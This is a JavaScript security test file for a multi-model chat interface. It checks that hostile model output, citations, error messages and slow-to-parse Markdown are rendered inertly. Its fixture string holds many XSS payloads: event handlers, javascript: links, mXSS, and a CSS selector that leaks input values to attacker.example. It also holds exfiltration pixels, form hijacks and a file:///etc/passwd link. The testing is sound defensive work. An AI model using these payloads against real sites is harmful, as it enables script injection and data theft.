// Tests malicious output of models and of the pages that they read. This output must not run code,
// load files or change styles.

import { cites, says, uses } from "../provider/scripts.mjs";
import { equal, includes, ok } from "../scenarios/assert.mjs";
import {
  ask,
  expectNoErrors,
  expectNoOverflow,
  textOf,
  useOwnServer,
  waitForEnd,
} from "./steps.mjs";

const EVIL = "https://attacker.example";

export const text = `Common ground, and this:

<script>window.hacked = "script"</script>
<img src="${EVIL}/a.png" onerror="window.hacked='onerror'">

![pixel](${EVIL}/pixel.png?q=secret)
[harmless](https://example.org/) [click me](javascript:window.hacked='link')

<a href="data:text/html,<script>alert(1)</script>" onclick="window.hacked='onclick'">data</a>
<a href="https://example.org/" target="_self" rel="opener">self</a>

<div style="position:fixed;inset:0;background:url(${EVIL}/bg.png)" class="stop" id="send" onmouseover="window.hacked='over'">cover</div>

<style>body { display: none; background: url(${EVIL}/css.png) }</style>
<form action="${EVIL}" id="composer"><input name="key" autofocus onfocus="window.hacked='focus'"><button>Send</button></form>
<svg onload="window.hacked='svg'"><a xlink:href="javascript:window.hacked='xlink'"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked='mxss'&gt;"></table></mtext></math>
<iframe src="javascript:window.hacked='frame'"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">
<details open ontoggle="window.hacked='toggle'"><summary>s</summary>d</details>
<base href="${EVIL}"><meta http-equiv="refresh" content="0;url=${EVIL}"><link rel="stylesheet" href="${EVIL}/x.css">
<video src="${EVIL}/v.mp4" autoplay></video><template><script>window.hacked="template"</script></template>

| ${"wide | ".repeat(60)}
| ${"--- | ".repeat(60)}
| ${"cell | ".repeat(60)}
${`| ${"row | ".repeat(60)}\n`.repeat(120)}
${"unbroken".repeat(200)}

- [x] task

[\u202Emoc.elpmaxe//:sptth](https://example.org/rtl) \u202Eright to left override \u2066isolated, never ended

\`\`\`js" onmouseover="window.hacked='lang'
const bidi = "\u202E"; </code></pre><img src=x onerror=window.hacked='code'>
\`\`\`

\`\`\`html
<style>input[value^="sk"] { background: url(${EVIL}/leak) }</style><script>window.hacked = "highlighted"</script>
\`\`\`

<b style="background:url(${EVIL}/inline.png)" id="question">bold</b> <table background="${EVIL}/t.png"><tr><td>cell</td></tr></table>
<input value="sk-" autofocus><link rel="preload" as="image" href="${EVIL}/p.png"><object data="javascript:window.hacked='object'"></object>
![x](data:image/svg+xml,<svg onload=window.hacked='svgimg'>) <img srcset="${EVIL}/s.png 2x" lazy>
[vb](vbscript:x) [data](data:text/html,x) [file](file:///etc/passwd) [blob](blob:x) [rel](/settings) [proto](//attacker.example/x) [js](JaVaScRiPt:window.hacked=1) [ent](java&#115;cript:window.hacked='entity')
<https://example.org/auto> <javascript:window.hacked='auto'>

<b>the end`;

const scripts = {
  "desk/evil": says(text, {
    annotations: [
      cites("javascript:window.hacked='source'", "<img src=x onerror=window.hacked='title'>"),
      cites(`${EVIL}/page`, "A real title"),
    ],
    reasoning: text,
    reasoning_details: [
      uses("openrouter:web_search", { query: "<img src=x onerror=window.hacked='tool'>" }, {}),
    ],
  }),
  "desk/analyst": { sequence: [says(JSON.stringify(comparison())), says(text)] },
};

function comparison() {
  return {
    consensus: [
      {
        point: text,
        responses: ["A", "B"],
        quotes: [{ response: "A", quote: text.slice(0, 300) }],
      },
    ],
    contradictions: [
      {
        topic: text,
        stances: [
          { response: "A", stance: text, quote: "x" },
          { response: "B", stance: "y", quote: "z" },
        ],
      },
    ],
    partial_coverage: [],
    unique_insights: [{ response: "B", insight: text, quote: text }],
    blind_spots: [{ point: text }],
  };
}

export const untrustedOutput = [
  { name: "untrusted output: malicious output is harmless", run: harmless },
  {
    name: "untrusted output: malicious output is harmless on a phone",
    run: harmless,
    viewport: { width: 320, height: 640 },
  },
  { name: "untrusted output: a malicious error message is shown as text", run: errorText },
  { name: "untrusted output: Markdown that is slow to parse is shown as text", run: slowMarkdown },
];

async function harmless({ open, site, session }) {
  await session.script(scripts);
  const page = await open();
  await useOwnServer(page, session.baseURL, ["desk/evil", "desk/evil"], "desk/analyst");
  await ask(page, "Is the sky blue?");
  await waitForEnd(page, "done");
  await page.locator(".turn details").evaluateAll((folds) => {
    for (const fold of folds) fold.open = true;
  });
  await page.waitForSelector(".hljs-tag");
  await page.mouse.move(640, 400);

  equal(await page.evaluate(() => window.hacked ?? null), null, "a script ran");
  const found = await page.locator(".turn").evaluate((run) => ({
    forbidden: [
      ...run.querySelectorAll(
        "script, img, iframe, form, input, style, svg:not(.icon), " +
          "math:not(.math > math), object, embed, base, meta, link, video, template",
      ),
    ].map(({ tagName }) => tagName),
    // The page itself sets one style attribute: on the element `.panel`.
    attributes: [...run.querySelectorAll("*:not(.panel)")]
      .flatMap(({ attributes }) => [...attributes])
      .filter(({ name }) => /^on|^style$|^srcset$/.test(name))
      .map(({ name }) => name),
    links: [...run.querySelectorAll("a[href]")].map((link) => ({
      url: link.href,
      target: link.target,
      rel: link.rel,
    })),
    fromModel: [...run.querySelectorAll(".prose *, .quote q *, .point *, .stance *")]
      .filter(
        (node) =>
          (node.id || node.className) &&
          !node.matches(".code, .code-head, .code-head *, .table-box, .code span[class^=hljs-]"),
      )
      .map(({ outerHTML }) => outerHTML.slice(0, 80)),
  }));
  equal(found.forbidden, [], "forbidden elements");
  equal(found.attributes, [], "forbidden attributes");
  equal(found.fromModel, [], "an id or a class from a model");
  ok(found.links.length > 3, "harmless links are left");
  for (const link of found.links) {
    ok(/^(https?|mailto):/.test(link.url), `a link to ${link.url}`);
    equal([link.target, link.rel], ["_blank", "noopener noreferrer nofollow"], link.url);
  }
  includes(
    await textOf(page.locator(".answer .prose")),
    "pixel (image)",
    "a remote image became a link",
  );
  includes(
    await textOf(page.locator(".answer .prose")),
    "the end",
    "the text after the markup is shown",
  );
  // The CSS isolates each block, so a character that reverses the text direction affects only its
  // own block.
  equal(
    await page
      .locator(".answer .prose > p")
      .last()
      .evaluate((block) => getComputedStyle(block).unicodeBidi),
    "isolate",
  );
  const boxes = await page.locator(".answer .table-box").evaluateAll((all) =>
    all.map((box) => ({
      rows: box.querySelectorAll("tr").length,
      scrolls: box.scrollWidth > box.clientWidth,
      inside: box.getBoundingClientRect().right <= innerWidth,
    })),
  );
  ok(
    boxes.some(({ rows, scrolls }) => rows > 100 && scrolls) && boxes.every(({ inside }) => inside),
    `a large table scrolls in its own box: ${JSON.stringify(boxes)}`,
  );
  ok(
    await page.evaluate(() =>
      [...document.styleSheets].every(({ href }) => href?.startsWith(location.origin)),
    ),
    "only style sheets of the page",
  );
  await expectNoOverflow(page, "with a large table and a long word");
  await expectNoErrors(page, site, session.baseURL);
}

/** Checks texts that would take the Markdown parser minutes if it had no limits. */
async function slowMarkdown({ open, site, session }) {
  const slow = [
    `${"*a ".repeat(20_000)}${" a*".repeat(20_000)}`,
    `- ${"a\n".repeat(40_000)}`,
    `${"**".repeat(20_000)}a${"**".repeat(20_000)}`,
    `\`\`\`c\n${"a ".repeat(9_000)}\n\`\`\``,
  ].join("\n\n");
  await session.script({
    "*": says("short"),
    "desk/slow": says(`${slow}\n\nthe end`),
    "desk/analyst": { sequence: [says(JSON.stringify(comparison())), says(slow)] },
  });
  const page = await open();
  await useOwnServer(page, session.baseURL, ["desk/slow", "desk/b"], "desk/analyst");
  await ask(page, "Is the sky blue?");
  await waitForEnd(page, "done");
  includes(await page.locator(".panelist .prose").first().textContent(), "the end");
  includes(await page.locator(".answer .prose").first().textContent(), "a a a");
  await expectNoErrors(page, site, session.baseURL);
}

async function errorText({ open, site, session }) {
  const message = "<img src=x onerror=window.hacked=1><b>bold</b>";
  await session.script({ "*": { status: 400, body: { error: { code: 400, message } } } });
  const page = await open();
  await useOwnServer(page, session.baseURL, ["<i>odd</i>/name", "desk/b"]);
  await ask(page, "Is the sky blue?");
  await waitForEnd(page, "failed");
  includes(await textOf(page.locator(".notice.error")), "<b>bold</b>");
  includes(await textOf(page.locator(".panelist").first()), "name");
  equal(await page.locator(".turn :is(img, b, i:not(.skeleton i))").count(), 0);
  await expectNoErrors(page, site, session.baseURL);
}
